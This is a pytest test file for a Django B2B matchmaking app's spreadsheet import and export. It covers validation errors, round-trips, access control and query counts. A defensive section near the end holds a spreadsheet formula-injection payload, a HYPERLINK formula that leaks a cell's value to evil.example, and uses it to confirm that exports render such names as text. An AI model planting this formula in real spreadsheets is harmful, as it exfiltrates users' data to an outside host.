"""A B2B session's participants and requests to and from spreadsheets: matchmaking/imports.py, its pages."""

import io
from datetime import time

import openpyxl
import pytest
import tablib
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from delegations.models import Organisation
from matchmaking.imports import COLUMNS, PARTICIPANTS, REQUESTS, Table, export_file, plan_import, read_tables
from matchmaking.models import Participant, Request
from tests.factories import (
    DelegationFactory,
    MemberFactory,
    OrganisationFactory,
    ParticipantFactory,
    RequestFactory,
    SessionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def mission():
    delegation = DelegationFactory(slug="ca-china-2016")
    solarcity = OrganisationFactory(name="SolarCity", country="United States")
    tesla = OrganisationFactory(name="Tesla", country="United States")
    members = {
        name: MemberFactory(delegation=delegation, full_name=name, organisation=org)
        for name, org in (("Lyndon Rive", solarcity), ("Peter Rive", solarcity), ("JB Straubel", tesla))
    }
    MemberFactory(delegation=delegation, full_name="Betty Yee")  # no organisation: never a seller
    OrganisationFactory(name="Shanghai Electric", local_name="上海电气")
    OrganisationFactory(name="Alibaba", local_name="阿里巴巴")
    session = SessionFactory(delegation=delegation, title="Shanghai B2B")  # 14:00 to 17:00 local
    staff = UserFactory(username="own")
    delegation.staff.add(staff)
    return {"delegation": delegation, "session": session, "members": members, "staff": staff}


def _participant(**values) -> list[str]:
    return [values.get(column, "") for column in COLUMNS[PARTICIPANTS]]


def _request(requester: str, target: str, priority: str = "want", note: str = "") -> list[str]:
    return [requester, target, priority, note]


def _buyer(n: int, **values) -> list[str]:
    return _participant(
        **{
            "side": "buyer",
            "organisation": f"Buyer {n:03}",
            "organisation_local_name": f"买家{n}",
            "country": "China",
            "contact_name": f"Contact {n}",
            "contact_email": f"buyer{n}@example.com",
            "language": ("zh", "Chinese", "中文", "en")[n % 4],
            **values,
        }
    )


def _participants(buyers: int = 20) -> list[list[str]]:
    return [
        _participant(
            side="seller", organisation="SolarCity", members="Lyndon Rive; Peter Rive", max_meetings="6"
        ),
        _participant(side="Seller", organisation="Tesla", language="English"),  # members: everyone from Tesla
        *(_buyer(n) for n in range(buyers)),
    ]


def _requests(buyers: int = 20) -> list[list[str]]:
    rows = []
    for n in range(buyers):
        seller = ("SolarCity", "Tesla")[n % 2]
        rows.append(_request(seller, f"Buyer {n:03}", ("must", "want", "could")[n % 3]))
        if n % 5 == 0:
            rows.append(_request(f"Buyer {n:03}", seller, "no thanks" if n == 10 else "must", note="Storage"))
    return rows


def _xlsx(kind: str, rows: list[list[str]]) -> bytes:
    return tablib.Dataset(*rows, headers=list(COLUMNS[kind])).export("xlsx")


def _csv(kind: str, rows: list[list[str]]) -> bytes:
    return tablib.Dataset(*rows, headers=list(COLUMNS[kind])).export("csv").encode("utf-8-sig")


def _workbook(participants: list[list[str]], requests: list[list[str]]) -> bytes:
    sheets = [
        tablib.Dataset(*participants, headers=list(COLUMNS[PARTICIPANTS]), title="Participants"),
        tablib.Dataset(*requests, headers=list(COLUMNS[REQUESTS]), title="requests"),
    ]
    return tablib.Databook(sheets).export("xlsx")


def _url(name: str, mission, *args) -> str:
    return reverse(name, args=[mission["delegation"].slug, mission["session"].pk, *args])


def _upload(client, mission, content: bytes, name: str = "b2b.xlsx"):
    client.force_login(mission["staff"])
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(_url("b2b-import", mission), {"file": upload})


def _confirm(client, mission, preview):
    return client.post(_url("b2b-import-confirm", mission), {"payload": preview.context["payload"]})


def _state(session) -> list:
    """Everything an import could change, to compare before and after."""
    participants = [
        (
            *(p.pk, p.side, p.organisation_id, p.contact_name, p.contact_email, p.language),
            *(p.available_from, p.available_until, p.max_meetings, p.updated_at),
            sorted(p.members.values_list("pk", flat=True)),
        )
        for p in Participant.objects.filter(session=session).order_by("pk")
    ]
    requests = [
        (r.pk, r.requester_id, r.target_id, r.priority, r.note, r.updated_at)
        for r in Request.objects.filter(session=session).order_by("pk")
    ]
    organisations = list(
        Organisation.objects.order_by("pk").values_list("pk", "name", "local_name", "updated_at")
    )
    return [participants, requests, organisations]


def test_b2b_import_with_bad_rows_names_each_in_words_and_imports_nothing(client, mission):
    participants = _participants()  # rows 2 to 23
    participants[1] = _participant(side="seller", organisation="Tesla", members="Lyndon Rive; JB Straubl")
    participants[2] = _buyer(0, available_from="09:00")
    participants += [
        _participant(side="seller", organisation="Teslaa"),  # row 24
        _participant(side="seller", organisation="SolarCity", members="Lyndon Rive"),
        _buyer(30, language="Klingon", max_meetings="lots"),
        _participant(side="vendor", organisation="Buyer 031"),  # row 27
        _buyer(32, available_from="16:00", available_until="15:00", contact_email="nope"),
        _buyer(33, members="Betty Yee"),
    ]
    requests = _requests()  # rows 2 to 25
    requests += [
        _request("Shanghai Electrik", "SolarCity"),  # row 26
        _request("Tesla", "SolarCity", "must"),
        _request("Buyer 011", "Buyer 011"),
        _request("SolarCity", "Alibaba", "maybe"),
        _request("SolarCity", "Buyer 000"),  # row 30
        _request("Buyer 031", "Tesla"),  # its participant row is wrong, this one is not
        _request("Buyr 011", "Tesla"),
    ]

    response = _upload(client, mission, _workbook(participants, requests))

    assert response.status_code == 200
    assert response.context["plan"].errors == [
        "Row 3 (participants): no member of this mission called 'JB Straubl' — did you mean JB Straubel?",
        "Row 4 (participants): available_from 09:00 is outside the session (14:00–17:00)",
        "Row 24 (participants): no organisation of this mission's members called 'Teslaa' — "
        "did you mean Tesla?",
        "Row 25 (participants): SolarCity is also on row 2; each may appear once",
        "Row 26 (participants): language 'Klingon' is not one of: zh, en, ko, ja "
        "(or Chinese, English, Korean, Japanese)",
        "Row 26 (participants): max_meetings 'lots' is not a whole number of 1 or more; "
        "leave it empty for no cap",
        "Row 27 (participants): side 'vendor' is not one of: seller, buyer",
        "Row 28 (participants): available_until 15:00 is not after available_from 16:00",
        "Row 28 (participants): contact_email: Enter a valid email address.",
        "Row 29 (participants): members: only sellers have members of the mission at the table; "
        "leave it empty for a buyer",
        "Row 26 (requests): no participant called 'Shanghai Electrik'",
        "Row 27 (requests): Tesla and SolarCity are both sellers: a request is between a seller and a buyer",
        "Row 28 (requests): requester and target are both Buyer 011: a participant cannot ask to meet itself",
        "Row 29 (requests): no participant called 'Alibaba' (it is on the organisation list but not in "
        "this session: add it to the participants)",
        "Row 29 (requests): priority 'maybe' is not one of: must, want, could, no thanks (or veto)",
        "Row 30 (requests): the request from SolarCity to Buyer 000 is also on row 2; each may appear once",
        "Row 32 (requests): no participant called 'Buyr 011' — did you mean Buyer 011?",
    ]
    page = response.content.decode()
    assert (
        "Row 24 (participants): no organisation of this mission&#x27;s members called &#x27;Teslaa&#x27;"
        in page
    )
    assert "Nothing will be imported: 17 problems in the file." in page
    assert "confirm-import" not in page
    assert not Participant.objects.exists() and not Request.objects.exists()
    assert not Organisation.objects.filter(name__startswith="Buyer").exists()


def test_b2b_import_suggests_a_participant_for_a_misspelt_request(mission):
    ParticipantFactory(
        session=mission["session"], organisation=Organisation.objects.get(name="Shanghai Electric")
    )
    tables = [
        Table(PARTICIPANTS, list(COLUMNS[PARTICIPANTS]), _participants(0)),
        Table(
            REQUESTS,
            list(COLUMNS[REQUESTS]),
            [_request("Shanghai Electrik", "SolarCity"), _request("上海电气", "Tesla")],
        ),
    ]
    plan = plan_import(session=mission["session"], tables=tables)
    assert plan.errors == [
        "Row 2 (requests): no participant called 'Shanghai Electrik' — did you mean Shanghai Electric?"
    ]


def test_b2b_import_of_the_corrected_files_saves_participants_then_requests(client, mission):
    preview = _upload(client, mission, _csv(PARTICIPANTS, _participants()), name="participants.csv")
    plan = preview.context["plan"]
    assert (plan.errors, len(plan.new)) == ([], 22)
    assert "Buyer 000 will be added to the organisation list" in preview.content.decode()
    assert _confirm(client, mission, preview).status_code == 302

    preview = _upload(client, mission, _xlsx(REQUESTS, _requests()), name="requests.xlsx")
    assert (preview.context["plan"].errors, len(preview.context["plan"].new)) == ([], 24)
    assert _confirm(client, mission, preview).status_code == 302

    session = mission["session"]
    solarcity = Participant.objects.get(session=session, organisation__name="SolarCity")
    assert (solarcity.side, solarcity.max_meetings) == ("seller", 6)
    assert sorted(solarcity.members.values_list("full_name", flat=True)) == ["Lyndon Rive", "Peter Rive"]
    tesla = Participant.objects.get(session=session, organisation__name="Tesla")
    assert list(tesla.members.values_list("full_name", flat=True)) == ["JB Straubel"]
    buyer = Participant.objects.get(session=session, organisation__name="Buyer 001")
    assert (buyer.side, buyer.language, buyer.contact_email) == ("buyer", "zh", "buyer1@example.com")
    assert (buyer.organisation.local_name, buyer.organisation.country, buyer.organisation.kind) == (
        "买家1",
        "China",
        "company",
    )
    assert Participant.objects.filter(session=session).count() == 22
    assert Request.objects.filter(session=session).count() == 24
    veto = Request.objects.get(requester__organisation__name="Buyer 010")
    assert (veto.target, veto.priority, veto.note) == (solarcity, "veto", "Storage")


def test_b2b_workbook_imports_new_buyers_and_their_requests_at_once(client, mission):
    preview = _upload(client, mission, _workbook(_participants(), _requests()))
    assert preview.context["plan"].errors == []
    _confirm(client, mission, preview)
    assert Participant.objects.count() == 22 and Request.objects.count() == 24


def test_b2b_reimport_updates_the_same_rows_without_duplicates(client, mission):
    _confirm(client, mission, _upload(client, mission, _workbook(_participants(), _requests())))
    participants, requests = _participants(), _requests()
    participants[0] = _participant(
        side="seller", organisation="solarcity", members="Peter Rive", max_meetings="4"
    )
    participants[3] = _buyer(1, available_from="15:00", available_until="16:30")
    requests[0] = _request("SolarCity", "买家0", "could", note="After lunch")
    requests.append(_request("Buyer 003", "Tesla", "must"))

    preview = _upload(client, mission, _workbook(participants, requests))

    plan = preview.context["plan"]
    assert plan.errors == []
    assert [(row.type, row.line, row.changes) for row in plan.updated] == [
        (
            "participants",
            2,
            [("members", "Lyndon Rive; Peter Rive", "Peter Rive"), ("max_meetings", "6", "4")],
        ),
        ("participants", 5, [("available_from", "", "15:00"), ("available_until", "", "16:30")]),
        ("requests", 2, [("priority", "must", "could"), ("note", "", "After lunch")]),
    ]
    assert [(row.type, row.line) for row in plan.new] == [("requests", 26)]
    _confirm(client, mission, preview)
    session = mission["session"]
    assert Participant.objects.filter(session=session).count() == 22
    assert Request.objects.filter(session=session).count() == 25
    solarcity = Participant.objects.get(organisation__name="SolarCity")
    assert list(solarcity.members.values_list("full_name", flat=True)) == ["Peter Rive"]
    buyer = Participant.objects.get(organisation__name="Buyer 001")
    assert (buyer.available_from, buyer.available_until) == (time(15), time(16, 30))
    request = Request.objects.get(requester=solarcity, target__organisation__name="Buyer 000")
    assert (request.priority, request.note) == ("could", "After lunch")
    assert Organisation.objects.filter(name__startswith="Buyer").count() == 20


@pytest.mark.parametrize("kind,fmt", [("participants", "xlsx"), ("requests", "csv"), ("all", "xlsx")])
def test_b2b_export_then_import_changes_nothing(client, mission, kind, fmt):
    _confirm(client, mission, _upload(client, mission, _workbook(_participants(), _requests())))
    ParticipantFactory(session=mission["session"], organisation=Organisation.objects.get(name="Alibaba"))
    before = _state(mission["session"])

    exported = client.get(_url("b2b-export", mission, kind, fmt))
    assert exported.status_code == 200
    preview = _upload(client, mission, exported.content, name=f"export.{fmt}")

    plan = preview.context["plan"]
    expected = {"participants": 23, "requests": 24, "all": 47}[kind]
    assert (plan.errors, len(plan.new), len(plan.updated), len(plan.unchanged)) == ([], 0, 0, expected)
    assert "confirm-import" not in preview.content.decode()
    assert _state(mission["session"]) == before


def test_b2b_csv_export_opens_in_excel_and_reads_back(client, mission):
    ParticipantFactory(
        session=mission["session"],
        organisation=Organisation.objects.get(name="Shanghai Electric"),
        contact_local_name="王丽",
        available_from=time(15, 20),
    )
    client.force_login(mission["staff"])
    response = client.get(_url("b2b-export", mission, "participants", "csv"))
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeffside,organisation,organisation_local_name".encode())
    [table] = read_tables(content=response.content, filename="p.csv")
    row = dict(zip(table.headers, table.rows[0], strict=True))
    assert (row["organisation_local_name"], row["contact_local_name"], row["available_from"]) == (
        "上海电气",
        "王丽",
        "15:20",
    )


def test_b2b_templates_have_the_header_and_example_rows_that_import(client, mission):
    client.force_login(mission["staff"])
    for kind in ("participants", "requests"):
        response = client.get(_url("b2b-import-template", mission, kind), {"format": "csv"})
        assert response.content.decode("utf-8-sig").splitlines()[0] == ",".join(COLUMNS[kind])
    response = client.get(_url("b2b-import-template", mission, "participants"))
    rows = [
        [cell.value for cell in row]
        for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.rows
    ]
    assert rows[0] == list(COLUMNS[PARTICIPANTS])
    assert rows[1][:5] == ["seller", "SolarCity", None, "United States", "Lyndon Rive; Peter Rive"]

    workbook = client.get(_url("b2b-import-template", mission, "all"), {"format": "xlsx"})
    assert openpyxl.load_workbook(io.BytesIO(workbook.content)).sheetnames == ["participants", "requests"]
    preview = _upload(client, mission, workbook.content, name="b2b-all-template.xlsx")
    plan = preview.context["plan"]
    assert (plan.errors, len(plan.new)) == ([], 6)
    assert client.get(_url("b2b-import-template", mission, "all"), {"format": "csv"}).status_code == 404


def test_b2b_import_reads_excel_time_cells(mission):
    sheet = tablib.Dataset(headers=list(COLUMNS[PARTICIPANTS]))
    sheet.append(_buyer(1, available_from="x", available_until="y"))
    book = openpyxl.load_workbook(io.BytesIO(sheet.export("xlsx")))
    book.active["J2"].value, book.active["K2"].value = time(14, 19, 59, 999000), time(16)
    content = io.BytesIO()
    book.save(content)
    tables = read_tables(content=content.getvalue(), filename="p.xlsx")
    plan = plan_import(session=mission["session"], tables=tables)
    assert plan.errors == []
    assert (plan.rows[0].item.available_from, plan.rows[0].item.available_until) == (time(14, 20), time(16))


@pytest.mark.parametrize(
    "content,name,message",
    [
        (b"side,organisation\n", "b2b.txt", "Upload a .csv or .xlsx file."),
        (b"not a spreadsheet", "b2b.xlsx", "This file cannot be read as XLSX"),
        (b"", "b2b.csv", "The submitted file is empty."),
        (b"\xef\xbb\xbf\n", "b2b.csv", "The file is empty: the first line must name the columns."),
        (
            b"name,email\nWang,w@example.com\n",
            "b2b.csv",
            "The first row names the columns name, email: a participants file needs side and organisation",
        ),
        (b"x" * (5 * 1024 * 1024 + 1), "b2b.csv", "The file is larger than 5 MB."),
    ],
)
def test_b2b_import_refuses_bad_files_in_words(client, mission, content, name, message):
    response = _upload(client, mission, content, name=name)
    assert response.status_code == 200
    assert message in response.content.decode().replace("&#x27;", "'")
    assert "confirm-import" not in response.content.decode()


def test_b2b_import_refuses_unknown_and_missing_columns(mission):
    tables = [
        Table(PARTICIPANTS, ["side", "organisation", "colour"], [["buyer", "X", "red"]]),
        Table(REQUESTS, ["requester", "priority"], [["X", "must"]]),
    ]
    assert plan_import(session=mission["session"], tables=tables).errors == [
        f"Row 1 (participants): unknown column 'colour'; the columns are: {', '.join(COLUMNS[PARTICIPANTS])}",
        f"Row 1 (requests): no column target; the columns are: {', '.join(COLUMNS[REQUESTS])}",
    ]


def test_b2b_import_tells_same_named_organisations_apart_by_country(mission):
    OrganisationFactory(name="Alibaba", country="Singapore")
    rows = [
        _participant(side="buyer", organisation="Alibaba"),
        _participant(side="buyer", organisation="alibaba", country="Singapore"),
    ]
    plan = plan_import(
        session=mission["session"], tables=[Table(PARTICIPANTS, list(COLUMNS[PARTICIPANTS]), rows)]
    )
    assert plan.errors == [
        "Row 2 (participants): more than one organisation is called 'Alibaba': fill in country to say which "
        "(China, Singapore)"
    ]
    assert plan.rows[1].item.organisation.country == "Singapore"


def test_b2b_import_keeps_the_organisation_lists_names_and_notes_what_it_adds(mission):
    rows = [
        _participant(side="buyer", organisation="Shanghai Electric", organisation_local_name="上海電氣"),
        _participant(side="buyer", organisation="Shanghai Electrik"),
    ]
    plan = plan_import(
        session=mission["session"], tables=[Table(PARTICIPANTS, list(COLUMNS[PARTICIPANTS]), rows)]
    )
    assert plan.errors == []
    assert plan.rows[0].notes == [
        "organisation_local_name: the organisation list has '上海电气', kept instead of '上海電氣'"
    ]
    assert plan.rows[1].notes == [
        "Shanghai Electrik will be added to the organisation list (did you mean Shanghai Electric?)"
    ]


def test_b2b_import_refuses_a_change_of_side(mission):
    ParticipantFactory(
        session=mission["session"], organisation=Organisation.objects.get(name="Tesla"), seller=True
    )
    rows = [_participant(side="buyer", organisation="Tesla")]
    plan = plan_import(
        session=mission["session"], tables=[Table(PARTICIPANTS, list(COLUMNS[PARTICIPANTS]), rows)]
    )
    assert plan.errors == [
        "Row 2 (participants): Tesla takes part as a seller: a participant cannot change sides"
    ]


def test_b2b_confirm_shows_the_preview_again_when_a_row_was_saved_since(client, mission):
    request = RequestFactory(
        requester=ParticipantFactory(
            session=mission["session"], organisation=Organisation.objects.get(name="Tesla"), seller=True
        ),
        target=ParticipantFactory(
            session=mission["session"], organisation=Organisation.objects.get(name="Alibaba")
        ),
        priority="could",
    )
    preview = _upload(client, mission, _csv(REQUESTS, [_request("Tesla", "Alibaba", "must")]), name="r.csv")
    request.note = "Changed by a colleague"
    request.save()

    again = _confirm(client, mission, preview)

    assert again.status_code == 200
    assert [row.item.pk for row in again.context["changed"]] == [request.pk]
    assert again.context["plan"].updated[0].changes == [
        ("priority", "could", "must"),
        ("note", "Changed by a colleague", ""),  # shown: importing now undoes the colleague's note
    ]
    request.refresh_from_db()
    assert request.priority == "could"
    assert _confirm(client, mission, again).status_code == 302  # imported knowingly from the new preview
    request.refresh_from_db()
    assert (request.priority, request.note) == ("must", "")


def test_b2b_confirm_refuses_a_tampered_preview_or_one_of_another_session(client, mission):
    client.force_login(mission["staff"])
    assert client.post(_url("b2b-import-confirm", mission), {"payload": "x:y"}).status_code == 302
    preview = _upload(client, mission, _workbook(_participants(2), _requests(2)))
    other = SessionFactory(delegation=mission["delegation"], city=mission["session"].city)
    response = client.post(
        reverse("b2b-import-confirm", args=[mission["delegation"].slug, other.pk]),
        {"payload": preview.context["payload"]},
    )
    assert response.status_code == 302
    assert not Participant.objects.exists()


def test_b2b_import_pages_are_only_for_the_sessions_own_delegation(client, mission):
    other_staff = UserFactory(username="other")
    DelegationFactory().staff.add(other_staff)
    foreign = SessionFactory()  # a session of another delegation, under this delegation's URL
    client.force_login(mission["staff"])
    assert client.get(_url("b2b-import", mission)).status_code == 200
    assert client.get(reverse("b2b-import", args=[mission["delegation"].slug, foreign.pk])).status_code == 404
    assert client.get(_url("b2b-export", mission, "participants", "pdf")).status_code == 404
    client.force_login(other_staff)
    for name, args in (
        ("b2b-import", ()),
        ("b2b-export", ("requests", "csv")),
        ("b2b-import-template", ("requests",)),
    ):
        assert client.get(_url(name, mission, *args)).status_code == 404


def test_b2b_import_page_links_the_downloads_and_the_upload(client, mission):
    client.force_login(mission["staff"])
    page = client.get(_url("b2b-import", mission)).content.decode()
    assert "export/participants.xlsx" in page and "import/template/requests/?format=csv" in page
    assert "Shanghai B2B" in page and 'type="file"' in page
    assert "Wed 26 Oct 2016, 14:00–17:00 local time (CST, UTC+8)" in page  # the room's clock


def test_b2b_plan_queries_do_not_grow_with_the_file(client, mission):
    _confirm(client, mission, _upload(client, mission, _workbook(_participants(5), _requests(5))))

    def queries(buyers: int) -> int:
        tables = [
            Table(PARTICIPANTS, list(COLUMNS[PARTICIPANTS]), _participants(buyers)),
            Table(REQUESTS, list(COLUMNS[REQUESTS]), _requests(buyers)),
        ]
        with CaptureQueriesContext(connection) as captured:
            plan = plan_import(session=mission["session"], tables=tables)
        assert plan.errors == []
        return len(captured)

    assert queries(10) == queries(300)


def test_b2b_preview_page_queries_do_not_grow_with_the_file(client, mission):
    def queries(buyers: int) -> int:
        with CaptureQueriesContext(connection) as captured:
            response = _upload(client, mission, _workbook(_participants(buyers), _requests(buyers)))
        assert len(response.context["plan"].new) == 2 + buyers + len(_requests(buyers))
        return len(captured)

    queries(1)  # the first request logs in
    assert queries(10) == queries(200)


def test_b2b_export_queries_do_not_grow_with_the_session(client, mission):
    def queries(buyers: int) -> int:
        _confirm(
            client, mission, _upload(client, mission, _workbook(_participants(buyers), _requests(buyers)))
        )
        with CaptureQueriesContext(connection) as captured:
            export_file(session=mission["session"], kind="all", fmt="xlsx")
        return len(captured)

    assert queries(5) == queries(100) == 3


# Hostile and large files (issue 20) --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_buyer_named_as_a_formula_is_exported_as_text_and_reads_back_unchanged(client, mission, fmt):
    # Names come from an outside registration form into the organisation list every mission shares.
    buyer = OrganisationFactory(name=FORMULA, local_name="+86 buyer", country="-")
    ParticipantFactory(session=mission["session"], organisation=buyer, contact_name="@Wang Li")
    client.force_login(mission["staff"])
    content = client.get(_url("b2b-export", mission, "participants", fmt)).content
    if fmt == "csv":
        body = content.decode("utf-8-sig")
        assert 'buyer,"\'=HYPERLINK(""http://evil.example/' in body and ",'+86 buyer,'-," in body
    else:
        cells = [
            cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row
        ]
        assert FORMULA in [cell.value for cell in cells]
        assert "f" not in {cell.data_type for cell in cells}
    plan = _upload(client, mission, content, name=f"export.{fmt}").context["plan"]
    assert (plan.errors, plan.saving, len(plan.unchanged)) == ([], 0, 1)


def test_a_second_sheet_of_a_million_cells_is_refused_at_the_column_limit(client, mission):
    # The probe's 64 KB workbook with a million cells on its requests sheet took 92 s and was
    # accepted. Here each request row runs on to column 60, under no column name.
    book = openpyxl.Workbook(write_only=True)
    book.create_sheet("participants").append(list(COLUMNS[PARTICIPANTS]))
    requests = book.create_sheet("requests")
    requests.append(list(COLUMNS[REQUESTS]))
    for n in range(200):
        requests.append(["SolarCity", f"Buyer {n:03}", "want", "", *(["x"] * 56)])
    content = io.BytesIO()
    book.save(content)
    response = _upload(client, mission, content.getvalue())
    assert response.context["form"].errors["file"] == [
        "Sheet 'requests', line 2 has a cell in column E, but the first line names 4 columns: "
        "that cell has no column name."
    ]


def test_a_nul_byte_in_a_b2b_upload_is_refused_before_the_database(client, mission):
    content = _csv(PARTICIPANTS, [_buyer(1, contact_name="Wang\x00Li")])
    response = _upload(client, mission, content, name="b2b.csv")
    [message] = response.context["form"].errors["file"]
    assert message.startswith("Line 2, column F: the cell holds a NUL character (byte 0)")
    assert not Participant.objects.exists()


def test_a_large_b2b_preview_names_the_kept_upload_instead_of_carrying_its_tables(client, mission, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 20_000
    buyers = [_buyer(n, contact_name=f"Contact {n} " + "x" * 150) for n in range(150)]
    preview = _upload(client, mission, _workbook([*_participants(0), *buyers], _requests(0)))
    assert preview.context["plan"].errors == []
    assert len(preview.context["payload"]) < 1000
    assert _confirm(client, mission, preview).status_code == 302
    assert Participant.objects.filter(session=mission["session"]).count() == 152


@pytest.mark.parametrize("typed", ["²", "٣", "0", "-2", "99999999999999999999"])
def test_a_cap_that_is_not_plain_digits_is_refused_in_the_files_words(typed):
    """ "²" passes str.isdigit() and then int() refuses it: the message is ours, not int()'s."""
    from matchmaking.imports import _count

    with pytest.raises(ValueError, match=r"is not a whole number of 1 or more; leave it empty for no cap"):
        _count(typed)
    assert _count("8") == 8 and _count("") is None
